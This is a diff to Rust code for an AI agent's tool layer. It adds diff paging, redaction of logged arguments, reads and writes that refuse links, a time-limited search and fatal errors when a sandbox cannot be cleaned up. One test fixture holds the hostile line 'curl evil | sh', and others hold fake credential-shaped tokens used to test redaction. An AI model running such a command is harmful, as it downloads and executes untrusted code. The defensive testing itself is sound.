@@ -11,7 +11,7 @@ use serde::Deserialize;
 use serde_json::{Value, json};
 
 use super::policy::{Judge, secret_file};
-use crate::roles::{TaskContext, current_diff, describe_run, repo_script, restore, sandbox_sh};
+use crate::roles::{TaskContext, current_diff, describe_run, repo_script, sandbox_sh};
 
 /// Every tool an agent can be offered.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Deserialize)]
@@ -106,8 +106,8 @@ impl ToolName {
                 json!({"type": "object", "properties": {"pattern": {"type": "string"}, "path": {"type": "string", "description": "only under this folder"}}, "required": ["pattern"], "additionalProperties": false}),
             ),
             ToolName::ShowDiff => (
-                "Show the change under consideration, as a unified diff against the base commit.",
-                json!({"type": "object", "properties": {}, "additionalProperties": false}),
+                "Show the change under consideration: the changed files, then the unified diff against the base commit (or one file's part), paged by offset.",
+                json!({"type": "object", "properties": {"path": {"type": "string", "description": "only this file's part"}, "offset": {"type": "integer", "minimum": 0, "description": "start this many bytes in"}}, "additionalProperties": false}),
             ),
             ToolName::ReadFindings => (
                 "Read the findings of earlier steps (failed tests, review comments) that this step must address.",
@@ -227,32 +227,39 @@ pub fn args<T: serde::de::DeserializeOwned>(tool: ToolName, v: &Value) -> Result
     serde_json::from_value(v).map_err(|e| format!("bad arguments for {}: {e}", tool.as_str()))
 }
 
-/// The arguments in a few words, for the transcript (never file contents).
+/// Arguments shown by value in the transcript; every other one shows only its size.
+const SHOWN_ARGS: [&str; 6] = ["path", "pattern", "start_line", "end_line", "offset", "verdict"];
+
+/// The arguments in a few words, for the transcript, logs and the audit trail: the values
+/// of [`SHOWN_ARGS`] (cut, redacted), the sizes of the rest (file contents, summaries and
+/// keys no tool has never appear).
 pub fn short_args(v: &Value) -> String {
     let Some(o) = v.as_object() else {
-        let s = v.to_string();
-        return s.chars().take(80).collect();
+        return format!("<{} bytes of non-object arguments>", v.to_string().len());
     };
     let mut out = String::new();
     for (k, val) in o {
         if !out.is_empty() {
             out.push(' ');
         }
+        let key: String = k.chars().filter(|c| c.is_ascii_graphic()).take(20).collect();
         match val {
-            Value::String(s) if matches!(k.as_str(), "content" | "old" | "new") => {
-                let _ = write!(out, "{k}=<{} bytes>", s.len());
+            Value::String(s) if SHOWN_ARGS.contains(&k.as_str()) => {
+                let s: String = telemetry::redact(s).chars().take(60).collect();
+                let _ = write!(out, "{key}={s:?}");
+            }
+            Value::Number(n) if SHOWN_ARGS.contains(&k.as_str()) => {
+                let _ = write!(out, "{key}={n}");
             }
             Value::String(s) => {
-                let s: String = s.chars().take(60).collect();
-                let _ = write!(out, "{k}={s:?}");
+                let _ = write!(out, "{key}=<{} bytes>", s.len());
             }
             other => {
-                let s: String = other.to_string().chars().take(60).collect();
-                let _ = write!(out, "{k}={s}");
+                let _ = write!(out, "{key}=<{} bytes>", other.to_string().len());
             }
         }
     }
-    out.chars().take(160).collect()
+    out.chars().take(200).collect()
 }
 
 fn under(folder: &str, file: &str) -> bool {
@@ -268,6 +275,9 @@ pub enum Fail {
     Refused(String),
     /// It ran and failed.
     Failed(String),
+    /// The workspace can no longer be trusted (a sandbox could not be stopped, or what it
+    /// left could not be undone): the step ends.
+    Fatal(String),
 }
 
 impl From<String> for Fail {
@@ -321,11 +331,7 @@ pub async fn run(ctx: &TaskContext, judge: &Judge, tool: ToolName, raw: &Value) 
         ToolName::ReadFile => {
             let a: ReadArgs = args(tool, raw)?;
             let path = judge.readable(&root, &a.path).map_err(Fail::Refused)?;
-            let bytes = ctx
-                .workspace
-                .read_file(&path, FILE_MAX_BYTES)
-                .await
-                .ok_or_else(|| format!("{path}: no such regular file, or larger than {FILE_MAX_BYTES} bytes"))?;
+            let bytes = read_beneath(&root, &path).await?;
             let text = String::from_utf8(bytes).map_err(|_| format!("{path} is not UTF-8 text"))?;
             if text.contains('\0') {
                 return Err(format!("{path} is binary").into());
@@ -361,48 +367,29 @@ pub async fn run(ctx: &TaskContext, judge: &Judge, tool: ToolName, raw: &Value) 
             } else {
                 judge.readable(&root, &a.path).map_err(Fail::Refused)?
             };
-            let files = ctx.workspace.current_files().await.map_err(|e| format!("cannot list files: {e}"))?;
-            let mut hits = Vec::new();
-            let mut scanned = 0usize;
-            let mut truncated = false;
-            'files: for f in files.iter().filter(|f| under(&folder, f) && secret_file(f).is_none()) {
-                if judge.readable(&root, f).is_err() {
-                    continue;
-                }
-                let Some(bytes) = ctx.workspace.read_file(f, FILE_MAX_BYTES).await else { continue };
-                scanned += bytes.len();
-                if scanned > SEARCH_MAX_SCANNED {
-                    truncated = true;
-                    break;
-                }
-                let Ok(text) = std::str::from_utf8(&bytes) else { continue };
-                if text.contains('\0') {
-                    continue;
-                }
-                for (i, line) in text.lines().enumerate() {
-                    if re.is_match(line) {
-                        if hits.len() == SEARCH_MAX_HITS {
-                            truncated = true;
-                            break 'files;
-                        }
-                        let line: String = line.chars().take(200).collect();
-                        hits.push(format!("{f}:{}: {line}", i + 1));
-                    }
-                }
-            }
-            let mut out = if hits.is_empty() { "(no match)".to_owned() } else { hits.join("\n") };
-            if truncated {
-                let _ = write!(out, "\n… more matches not shown; narrow the pattern or the folder");
-            }
+            let files: Vec<String> = ctx
+                .workspace
+                .current_files()
+                .await
+                .map_err(|e| format!("cannot list files: {e}"))?
+                .into_iter()
+                .filter(|f| under(&folder, f) && secret_file(f).is_none())
+                .collect();
+            // Off the async threads, and against the clock: a pattern can be slow on some
+            // text (the regex crate is linear, but its constant can be large), and this
+            // task's keep-alive must go on meanwhile.
+            let out = tokio::task::spawn_blocking(move || search_files(&root, &files, &re))
+                .await
+                .map_err(|e| format!("the search failed: {e}"))?;
             Ok(out)
         }
         ToolName::ShowDiff => {
-            args::<NoArgs>(tool, raw)?;
+            let a: DiffArgs = args(tool, raw)?;
             let diff = current_diff(ctx).await.map_err(|o| Fail::Failed(o.summary))?;
             if diff.is_empty() {
                 return Ok("(the workspace has no change against the base commit)".into());
             }
-            Ok(String::from_utf8_lossy(&diff).into_owned())
+            Ok(show_diff(&String::from_utf8_lossy(&diff), a.path.as_deref(), a.offset.unwrap_or(0), judge.result_bytes))
         }
         ToolName::ReadFindings => {
             args::<NoArgs>(tool, raw)?;
@@ -417,11 +404,7 @@ pub async fn run(ctx: &TaskContext, judge: &Judge, tool: ToolName, raw: &Value) 
             if a.old.is_empty() {
                 return Err("`old` is empty; use write_file to create a file".to_owned().into());
             }
-            let bytes = ctx
-                .workspace
-                .read_file(&path, FILE_MAX_BYTES)
-                .await
-                .ok_or_else(|| format!("{path}: no such regular file"))?;
+            let bytes = read_beneath(&root, &path).await?;
             let text = String::from_utf8(bytes).map_err(|_| format!("{path} is not UTF-8 text"))?;
             let n = text.matches(&a.old).count();
             if n != 1 {
@@ -460,31 +443,161 @@ pub async fn run(ctx: &TaskContext, judge: &Judge, tool: ToolName, raw: &Value) 
     }
 }
 
-/// Writes a file of the workspace; parents are created, nothing is followed through a link
-/// (the judge refused any path with one on the way, and nothing else runs meanwhile).
-async fn write(ctx: &TaskContext, path: &str, bytes: &[u8]) -> Result<(), String> {
-    if bytes.len() > WRITE_MAX_BYTES {
-        return Err(format!("the file would be {} bytes; the limit is {WRITE_MAX_BYTES}", bytes.len()));
-    }
-    let full = ctx.workspace.dir.join(path);
-    if let Some(parent) = full.parent() {
-        tokio::fs::create_dir_all(parent).await.map_err(|e| format!("cannot create the folder of {path}: {e}"))?;
-    }
-    if let Ok(m) = tokio::fs::symlink_metadata(&full).await
-        && !m.is_file()
-    {
-        return Err(format!("{path} exists and is not a regular file"));
-    }
-    tokio::fs::write(&full, bytes).await.map_err(|e| format!("cannot write {path}: {e}"))
+/// Reads a file of the workspace for a tool ([`super::beneath::read`]).
+async fn read_beneath(root: &std::path::Path, path: &str) -> Result<Vec<u8>, Fail> {
+    let (root, rel) = (root.to_path_buf(), path.to_owned());
+    tokio::task::spawn_blocking(move || super::beneath::read(&root, &rel, FILE_MAX_BYTES))
+        .await
+        .map_err(|e| Fail::Failed(format!("cannot read {path}: {e}")))?
+        .map_err(refused_or_failed)
 }
 
-/// Runs `command` in the sandbox on the workspace and puts back whatever the run changed
-/// (the agent's edits stay; files the run left do not).
-async fn sandboxed(ctx: &TaskContext, command: &str, what: &str) -> Result<String, String> {
-    let before = current_diff(ctx).await.map_err(|o| o.summary)?;
-    ctx.workspace.open_to_sandbox().await.map_err(|e| format!("cannot open the workspace to the sandbox: {e}"))?;
-    let out = sandbox_sh(ctx, command).await?;
-    restore(ctx, &before).await.map_err(|o| o.summary)?;
+/// A link or a second name on the way is the policy's refusal; anything else a failure.
+fn refused_or_failed(e: String) -> Fail {
+    if e.contains("symbolic link") || e.contains("hard links") || e.contains("leaves the workspace") {
+        Fail::Refused(e)
+    } else {
+        Fail::Failed(e)
+    }
+}
+
+/// Writes a file of the workspace ([`super::beneath::write`]).
+async fn write(ctx: &TaskContext, path: &str, bytes: &[u8]) -> Result<(), Fail> {
+    if bytes.len() > WRITE_MAX_BYTES {
+        return Err(format!("the file would be {} bytes; the limit is {WRITE_MAX_BYTES}", bytes.len()).into());
+    }
+    let (root, rel, bytes) = (ctx.workspace.dir.clone(), path.to_owned(), bytes.to_vec());
+    tokio::task::spawn_blocking(move || super::beneath::write(&root, &rel, &bytes))
+        .await
+        .map_err(|e| Fail::Failed(format!("cannot write {path}: {e}")))?
+        .map_err(refused_or_failed)
+}
+
+/// Most time one `search` may take.
+pub const SEARCH_BUDGET: std::time::Duration = std::time::Duration::from_secs(10);
+/// Lines longer than this are not searched (minified or generated text).
+pub const SEARCH_MAX_LINE: usize = 4096;
+
+fn search_files(root: &std::path::Path, files: &[String], re: &regex::Regex) -> String {
+    let started = std::time::Instant::now();
+    let mut hits = Vec::new();
+    let mut scanned = 0usize;
+    let mut stopped = None;
+    'files: for f in files {
+        if started.elapsed() > SEARCH_BUDGET {
+            stopped = Some("the search took too long");
+            break;
+        }
+        let Ok(bytes) = super::beneath::read(root, f, FILE_MAX_BYTES) else { continue };
+        scanned += bytes.len();
+        if scanned > SEARCH_MAX_SCANNED {
+            stopped = Some("the search read its limit of bytes");
+            break;
+        }
+        let Ok(text) = std::str::from_utf8(&bytes) else { continue };
+        if text.contains('\0') {
+            continue;
+        }
+        for (i, line) in text.lines().enumerate() {
+            if line.len() > SEARCH_MAX_LINE {
+                continue;
+            }
+            if re.is_match(line) {
+                if hits.len() == SEARCH_MAX_HITS {
+                    stopped = Some("more matches than shown");
+                    break 'files;
+                }
+                let line: String = line.chars().take(200).collect();
+                hits.push(format!("{f}:{}: {line}", i + 1));
+            }
+        }
+    }
+    let mut out = if hits.is_empty() { "(no match)".to_owned() } else { hits.join("\n") };
+    if let Some(why) = stopped {
+        let _ = write!(out, "\n… {why}; narrow the pattern or the folder");
+    }
+    out
+}
+
+/// `show_diff` arguments.
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct DiffArgs {
+    /// Only this file's part of the diff.
+    path: Option<String>,
+    /// Start this many bytes into the (file's) diff.
+    offset: Option<usize>,
+}
+
+/// The changed files with their added and removed lines, then the diff (or one file's
+/// part) from `offset`, at most about `cap` bytes, saying where the next page starts.
+pub fn show_diff(diff: &str, path: Option<&str>, offset: usize, cap: usize) -> String {
+    let mut sections: Vec<(String, &str)> = Vec::new();
+    let mut rest = diff;
+    while !rest.is_empty() {
+        let next = rest.get(1..).and_then(|r| r.find("\ndiff --git ")).map_or(rest.len(), |i| i + 2);
+        let (section, tail) = rest.split_at(next);
+        let name = section
+            .lines()
+            .next()
+            .and_then(|l| l.rsplit_once(" b/"))
+            .map_or_else(|| "?".to_owned(), |(_, b)| b.to_owned());
+        sections.push((name, section));
+        rest = tail;
+    }
+    let mut out = String::from("Changed files (added/removed lines):\n");
+    for (name, section) in &sections {
+        let added = section.lines().filter(|l| l.starts_with('+') && !l.starts_with("+++")).count();
+        let removed = section.lines().filter(|l| l.starts_with('-') && !l.starts_with("---")).count();
+        let _ = writeln!(out, "  {name} (+{added} -{removed})");
+    }
+    let body: &str = match path {
+        Some(p) => match sections.iter().find(|(n, _)| n == p.trim()) {
+            Some((_, s)) => s,
+            None => return format!("{out}\n{p} is not among the changed files"),
+        },
+        None => diff,
+    };
+    let mut start = offset.min(body.len());
+    while !body.is_char_boundary(start) {
+        start -= 1;
+    }
+    let room = cap.saturating_sub(out.len() + 200).max(1024);
+    let mut end = start.saturating_add(room).min(body.len());
+    while !body.is_char_boundary(end) {
+        end -= 1;
+    }
+    let _ = write!(out, "\n{}", &body[start..end]);
+    if end < body.len() {
+        let _ = write!(
+            out,
+            "\n[… {} more bytes: call show_diff with offset={end}{}]",
+            body.len() - end,
+            path.map(|p| format!(" and path={p:?}")).unwrap_or_default()
+        );
+    }
+    out
+}
+
+/// Runs `command` in the sandbox on the workspace, then puts the workspace back exactly as
+/// the agent left it (the base commit and the agent's change; files the run left, ignored
+/// ones included, are gone). Anything going wrong here ends the step: the workspace can no
+/// longer be trusted.
+async fn sandboxed(ctx: &TaskContext, command: &str, what: &str) -> Result<String, Fail> {
+    let before = current_diff(ctx).await.map_err(|o| Fail::Fatal(o.summary))?;
+    ctx.workspace
+        .open_to_sandbox()
+        .await
+        .map_err(|e| Fail::Fatal(format!("cannot open the workspace to the sandbox: {e}")))?;
+    let out = sandbox_sh(ctx, command).await.map_err(Fail::Fatal)?;
+    let undo = async {
+        ctx.workspace.reset().await?;
+        if !before.is_empty() {
+            ctx.workspace.apply(&before).await?;
+        }
+        Ok::<(), crate::workspace::WorkspaceError>(())
+    };
+    undo.await.map_err(|e| Fail::Fatal(format!("cannot undo what the {what} run left in the workspace: {e}")))?;
     let tail = crate::roles::log_tail(&out.output, 6000);
     let verdict = if out.success() { "passed" } else { "failed" };
     Ok(format!("The {what} {verdict} ({}). Output (end):\n{tail}", describe_run(&out)))
@@ -507,9 +620,33 @@ mod tests {
     }
 
     #[test]
+    fn show_diff_lists_every_file_and_pages_what_does_not_fit() {
+        let pad = format!(
+            "diff --git a/aaa.txt b/aaa.txt\n--- a/aaa.txt\n+++ b/aaa.txt\n@@ -1 +1,400 @@\n{}",
+            "+x\n".repeat(8000)
+        );
+        let evil = "diff --git a/zzz.sh b/zzz.sh\n--- a/zzz.sh\n+++ b/zzz.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n";
+        let diff = format!("{pad}{evil}");
+        let first = show_diff(&diff, None, 0, 4096);
+        assert!(first.contains("  aaa.txt (+8000 -0)\n  zzz.sh (+1 -0)\n"), "{first}");
+        assert!(first.len() < 4096 + 200 && !first.contains("curl evil"), "{}", first.len());
+        let next: usize = first.rsplit_once("offset=").unwrap().1.trim_end_matches(']').parse().unwrap();
+        assert!(next > 0);
+        let one = show_diff(&diff, Some("zzz.sh"), 0, 4096);
+        assert!(one.ends_with(evil) && !one.contains("more bytes"), "{one}");
+        assert!(show_diff(&diff, Some("nope"), 0, 4096).ends_with("nope is not among the changed files"));
+        assert!(show_diff("é".repeat(5000).as_str(), None, 3, 2000).len() > 1000, "char boundaries hold");
+    }
+
+    #[test]
     fn short_args_never_carry_contents() {
         let s = short_args(&json!({"path": "a.py", "content": "SECRET".repeat(100)}));
         assert_eq!(s, "content=<600 bytes> path=\"a.py\"");
+        let s = short_args(&json!({"summary": "AKIAABCDEFGHIJKLMNOP", "sneaky key": ["ghp_x"], "start_line": 3}));
+        assert_eq!(s, "sneakykey=<9 bytes> start_line=3 summary=<20 bytes>");
+        let s = short_args(&json!({"path": "x ghp_0123456789abcdefghijABCDEFGHIJ012345"}));
+        assert!(!s.contains("ghp_0123"), "{s}");
+        assert_eq!(short_args(&json!("raw")), "<5 bytes of non-object arguments>");
         assert!(args::<ReadArgs>(ToolName::ReadFile, &json!("x")).is_err());
         assert!(args::<ReadArgs>(ToolName::ReadFile, &json!({"path": "a", "mode": 1})).unwrap_err().contains("mode"));
     }
